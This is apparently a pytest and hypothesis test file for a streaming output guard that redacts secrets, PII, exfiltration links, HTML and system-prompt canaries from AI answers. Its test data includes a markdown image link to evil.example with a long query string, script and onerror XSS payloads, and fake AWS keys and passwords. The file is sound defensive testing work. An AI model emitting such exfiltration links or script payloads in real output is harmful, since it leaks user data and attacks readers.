"""Streamed answers: any chunking releases exactly what the one-shot chain produces."""

from __future__ import annotations

import random
import string
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ramparts.guard.canary import CanaryGuard, make_canary
from ramparts.guard.exfil import ExfiltrationGuard
from ramparts.guard.html import HtmlGuard
from ramparts.guard.interface import Blocked, Guard, GuardConfigError, GuardContext, Role
from ramparts.guard.leakage import PiiGuard, SecretGuard
from ramparts.guard.runner import run_guards
from ramparts.guard.stream import DEFAULT_HOLD_BACK, StreamGuard

_RNG = random.Random(7)  # noqa: S311 - reproducible test data, not keys
ANSWER = GuardContext(role=Role.ASSISTANT)
KEYS = [
    "AKIA" + "".join(_RNG.choice(string.ascii_uppercase + "234567") for _ in range(16))
    for _ in range(4)
]
PASSWORDS = [
    "".join(_RNG.choice(string.ascii_letters + string.digits) for _ in range(18)) for _ in range(2)
]


def stream(
    guards: Sequence[Guard], text: str, cuts: list[int], ctx: GuardContext = ANSWER, **kw: int
) -> str:
    guard = StreamGuard(guards, ctx, **kw)
    out, prev = [], 0
    for cut in sorted(set(cuts)):
        out.append(guard.feed(text[prev:cut]))
        prev = cut
    out.append(guard.feed(text[prev:]))
    out.append(guard.finish())
    return "".join(out)


WORDS = st.sampled_from(
    ["the", "model", "answered", "with", "a", "long", "explanation", "of", "how", "it", "works"]
)
SENSITIVE = st.sampled_from(
    [
        *KEYS,
        *(f'password = "{p}"' for p in PASSWORDS),
        "jane.doe@northwind.io",
        "4103 0738 6009 7117",
        "![img](https://evil.example/c?q=" + "z" * 300 + ")",
        "[see](https://evil.example/r?x=1)",
        "<script>alert(1)</script>",
        '<img src=x onerror="go()">',
        "\n",
        "\n\n",
    ]
)
TEXTS = st.lists(WORDS | WORDS | SENSITIVE, min_size=1, max_size=250).map(" ".join)


@settings(max_examples=150, deadline=None)
@given(TEXTS, st.data())
def test_any_chunking_releases_what_the_one_shot_chain_produces(
    text: str, data: st.DataObject
) -> None:
    guards = [SecretGuard(), PiiGuard(), ExfiltrationGuard(), HtmlGuard()]
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=60))
    assert stream(guards, text, cuts) == run_guards(guards, text, ANSWER).text


@settings(max_examples=150, deadline=None)
@given(TEXTS, st.data())
def test_a_secret_split_across_chunks_is_still_redacted(text: str, data: st.DataObject) -> None:
    key = KEYS[0]
    text = f"{text} {key} {text}"
    at = text.index(key) + data.draw(st.integers(1, len(key) - 1))
    cuts = [*data.draw(st.lists(st.integers(0, len(text)), max_size=30)), at]
    released = stream([SecretGuard()], text, cuts, min_step=8)
    assert key not in released
    assert released == run_guards([SecretGuard()], text, ANSWER).text


def test_character_by_character_streaming() -> None:
    text = f"Your key is {KEYS[1]}; mail jane.doe@northwind.io. " * 3
    cuts = list(range(len(text)))
    expected = run_guards([SecretGuard(), PiiGuard()], text, ANSWER).text
    assert stream([SecretGuard(), PiiGuard()], text, cuts) == expected
    assert "[REDACTED:aws-access-key-id]" in expected


def test_text_is_held_back_then_released() -> None:
    guard = StreamGuard([SecretGuard()], ANSWER)
    first = guard.feed("word " * 20)
    assert first == ""  # less than hold_back + min_step so far
    later = guard.feed("word " * 200)
    assert later.startswith("word word")
    assert len(later) <= 5 * 220 - DEFAULT_HOLD_BACK
    assert first + later + guard.finish() == "word " * 220


def test_verdicts_carry_offsets_into_the_whole_text() -> None:
    text = "x " * 400 + KEYS[2] + " y" * 400
    guard = StreamGuard([SecretGuard()], ANSWER)
    for i in range(0, len(text), 50):
        guard.feed(text[i : i + 50])
    guard.finish()
    (verdict,) = guard.verdicts
    (span,) = verdict.spans
    assert text[span.start : span.end] == KEYS[2]
    assert verdict.code == "secret_leak"


def test_a_blocking_guard_stops_the_stream() -> None:
    canary = make_canary()
    ctx = GuardContext(role=Role.ASSISTANT, canaries=(canary,))
    guard = StreamGuard([CanaryGuard(), SecretGuard()], ctx)
    text = "fine words " * 60 + f"my prompt starts with {canary} and more " * 20
    released = []
    with pytest.raises(Blocked) as info:  # noqa: PT012 - a stream is fed chunk by chunk
        for i in range(0, len(text), 16):
            released.append(guard.feed(text[i : i + 16]))
    assert info.value.verdict.code == "system_prompt_leak"
    assert canary not in "".join(released)


def test_a_long_token_without_whitespace_is_held_until_max_hold() -> None:
    guard = StreamGuard([SecretGuard()], ANSWER, hold_back=16, min_step=8, max_hold=1000)
    assert guard.feed("a" * 900) == ""
    released = guard.feed("a" * 200)
    assert set(released) == {"a"}
    assert released + guard.finish() == "a" * 1100


def test_streams_are_used_once_and_configured_sensibly() -> None:
    guard = StreamGuard([SecretGuard()], ANSWER)
    assert guard.finish() == ""
    assert guard.finish() == ""
    with pytest.raises(GuardConfigError):
        guard.feed("more")
    with pytest.raises(GuardConfigError):
        StreamGuard([SecretGuard()], ANSWER, hold_back=0)
    with pytest.raises(GuardConfigError):
        StreamGuard([SecretGuard()], ANSWER, hold_back=100, max_hold=150)
